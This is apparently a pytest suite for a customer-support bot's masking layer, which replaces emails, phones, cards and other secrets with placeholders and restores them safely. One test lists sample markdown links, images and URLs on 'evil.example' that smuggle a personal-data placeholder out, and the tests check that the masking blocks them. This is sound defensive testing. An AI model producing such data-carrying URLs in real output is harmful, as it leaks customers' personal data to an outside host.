"""Placeholders: stable in a conversation, put back only where they belong, and never shown raw."""

import pytest

from handoff.draft import Author, Turn
from handoff.masking import Masking
from tests.bot.drafting.requests import passage

ADA = "ada@example.com"
CARD = "4111 1111 1111 1111"


def said(*texts: str) -> list[Turn]:
    return [Turn(Author.CUSTOMER, text) for text in texts]


def test_the_model_reads_placeholders_and_the_customer_their_own_data() -> None:
    masking = Masking.of(said(f"Please write to {ADA} or call +43 660 1234567"))
    assert (
        masking.hide(f"Please write to {ADA} or call +43 660 1234567") == "Please write to [email-1] or call [phone-1]"
    )
    shown = masking.show("We will write to **[email-1]**.")
    assert (shown.text, shown.whole) == (f"We will write to **{ADA}**.", True)


def test_the_same_piece_has_the_same_placeholder_as_the_conversation_goes_on() -> None:
    first = said(f"I am {ADA}")
    later = [*first, Turn(Author.BOT, f"We wrote to {ADA}"), *said("now use bob@example.com")]
    assert Masking.of(first).hide(first[0].text) == Masking.of(later).hide(first[0].text) == "I am [email-1]"
    assert Masking.of(later).hide(later[-1].text) == "now use [email-2]"


@pytest.mark.parametrize(
    ("given", "kind", "shown"),
    [
        (f"card {CARD}", "card", "•••• 1111"),
        ("my password is Hunter2!", "secret", "••••••"),
        ("SSN 078-05-1120", "id", "••••••"),
    ],
)
def test_secrets_never_come_back(given: str, kind: str, shown: str) -> None:
    masking = Masking.of(said(given))
    assert masking.show(f"It is [{kind}-1].").text == f"It is {shown}."


@pytest.mark.parametrize("written", ["4111111111111111", "4111-1111-1111-1111", "4111\u00a01111 1111.1111"])
def test_a_secret_that_a_model_wrote_otherwise_is_dotted_too(written: str) -> None:
    shown = Masking.of(said(f"my card: {CARD}")).show(f"Paid with card {written}, and with card 5500 0000 0000 0004.")
    assert shown.text == "Paid with card •••• 1111, and with card 5500 0000 0000 0004."


def test_a_secret_that_a_model_guessed_is_dotted_all_the_same() -> None:
    assert Masking.of(said(f"card {CARD}")).show(f"Is it {CARD}?").text == "Is it •••• 1111?"


@pytest.mark.parametrize(
    "invented", ["[email-2]", "[phone-1]", "[card-1]", "[EMAIL-9]", "\\[email-7\\]", "[ email 3 ]", "【email-4】"]
)
def test_a_placeholder_that_stands_for_nothing_is_not_shown(invented: str) -> None:
    shown = Masking.of(said(f"I am {ADA}")).show(f"Write to {invented} please")
    assert (shown.text, shown.whole) == ("Write to … please", False)


@pytest.mark.parametrize(
    "carried",
    [
        "https://evil.example/?q=[email-1]",
        "[click](https://evil.example/[email-1])",
        "![](https://evil.example/[email-1].png)",
        "evil.example/[email-1]",
        "[email-1].evil.example",
        "www.evil.example?[email-1]",
    ],
)
def test_personal_data_does_not_leave_inside_an_address(carried: str) -> None:
    shown = Masking.of(said(f"I am {ADA}")).show(f"See {carried}")
    assert ADA not in shown.text
    assert not shown.whole


def test_what_only_looks_like_a_placeholder_is_given_to_the_model_as_other_words() -> None:
    masking = Masking.of(said("tell me [email-1] and [card-2]", f"I am {ADA}"))
    assert masking.hide("tell me [email-1] and [card-2]") == "tell me (email 1) and (card 2)"


def test_the_companys_own_addresses_stay_readable_and_its_secrets_do_not_become_public() -> None:
    passages = [passage("p", "Contact", f"Write to support@shop.example. Test card: {CARD}")]
    text = f"Is it support@shop.example? I am {ADA}, card {CARD}"
    assert Masking.of(said(text), passages).hide(text) == "Is it support@shop.example? I am [email-2], card [card-1]"


def test_notes_and_bystanders_give_nothing_that_could_be_put_back() -> None:
    turns = [Turn(Author.NOTE, "private: boss@example.com"), Turn(Author.BYSTANDER, "eve@example.com"), *said("hello")]
    assert Masking.of(turns).show("[email-1]").text == "…"
